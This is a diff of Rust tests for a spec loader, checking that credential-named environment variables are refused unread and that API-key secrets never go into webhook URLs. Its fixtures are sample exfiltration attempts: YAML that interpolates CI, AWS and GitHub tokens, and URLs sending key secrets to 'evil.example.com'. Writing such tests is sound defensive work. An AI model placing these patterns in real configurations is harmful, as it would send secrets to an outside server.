@@ -351,3 +351,109 @@ fn substitution_reaches_every_section() {
         }
     }
 }
+
+#[test]
+fn an_env_variable_named_like_a_credential_is_refused_and_never_read() {
+    // A pull request controls the spec, not the CI runner's environment: shown in a plan, an
+    // `${env.…}` of the runner's token would be posted on the pull request.
+    let spec = r#"agents:
+  alice: { name: "${env.CI_JOB_TOKEN}" }
+  bob: { name: "Bob ${env.AWS_SECRET_ACCESS_KEY}" }
+  carol: { name: "${env.STRINGEE_API_KEY_SECRET}" }
+  dave: { name: "${env.STRINGEE_ACCOUNT_KEY_SECRET}" }
+  erin: { name: "${env.githubToken}" }
+  fred: { name: "${env.REGION}" }
+settings:
+  event_url: "https://crm.example.com/e?t=${env.CRM_PASSWORD}"
+"#;
+    let asked = std::cell::RefCell::new(Vec::new());
+    let process = |name: &str| {
+        asked.borrow_mut().push(name.to_owned());
+        Some(if name == "REGION" {
+            "eu".to_owned()
+        } else {
+            SECRET.to_owned()
+        })
+    };
+    let sources = [Source {
+        path: "spec.yaml".to_owned(),
+        text: spec.to_owned(),
+    }];
+    let loaded = load_with(
+        &sources,
+        None,
+        &process,
+        &|_| Err("no such file".to_owned()),
+    );
+    assert!(loaded.spec.is_none());
+    let refused: Vec<(u32, &str)> = loaded
+        .diagnostics
+        .iter()
+        .filter(|d| d.code == crate::diagnostic::code::SECRET_OUTSIDE_URL)
+        .map(|d| (d.labels[0].line, d.message.as_str()))
+        .collect();
+    assert_eq!(
+        refused.iter().map(|(line, _)| *line).collect::<Vec<_>>(),
+        [2, 3, 4, 5, 6, 9],
+        "{refused:#?}"
+    );
+    assert!(
+        refused[0]
+            .1
+            .starts_with("`${env.CI_JOB_TOKEN}` would show the variable `CI_JOB_TOKEN`"),
+        "{refused:#?}"
+    );
+    // Not even read: only the harmless variable was asked for.
+    assert_eq!(*asked.borrow(), ["REGION"]);
+    render(&loaded);
+}
+
+#[test]
+fn the_keys_own_secrets_never_go_into_a_webhook_url() {
+    // A URL PCC calls is sent to whoever it names: with the API key's secret in it, a merged
+    // pull request would hand the key to its own server on the first call event.
+    let spec = r#"settings:
+  event_url: "https://evil.example.com/e?x=${secret.STRINGEE_API_KEY_SECRET}"
+  get_customer_info_url: "https://evil.example.com/${secret.STRINGEE_ACCOUNT_KEY_SECRET}"
+  callout_answer_url: "https://crm.example.com/a?t=${secret.CRM_TOKEN}"
+"#;
+    let asked = std::cell::RefCell::new(Vec::new());
+    let process = |name: &str| {
+        asked.borrow_mut().push(name.to_owned());
+        Some(SECRET.to_owned())
+    };
+    let sources = [Source {
+        path: "spec.yaml".to_owned(),
+        text: spec.to_owned(),
+    }];
+    let loaded = load_with(
+        &sources,
+        None,
+        &process,
+        &|_| Err("no such file".to_owned()),
+    );
+    assert!(loaded.spec.is_none());
+    let refused: Vec<(u32, &str)> = loaded
+        .diagnostics
+        .iter()
+        .filter(|d| d.code == crate::diagnostic::code::SUBSTITUTION)
+        .map(|d| (d.labels[0].line, d.message.as_str()))
+        .collect();
+    assert_eq!(
+        refused,
+        [
+            (
+                2,
+                "`${secret.STRINGEE_API_KEY_SECRET}` is the secret of the key switchboard \
+                 signs its requests with, which never goes into a value"
+            ),
+            (
+                3,
+                "`${secret.STRINGEE_ACCOUNT_KEY_SECRET}` is the secret of the key switchboard \
+                 signs its requests with, which never goes into a value"
+            ),
+        ]
+    );
+    assert_eq!(*asked.borrow(), ["CRM_TOKEN"]);
+    render(&loaded);
+}
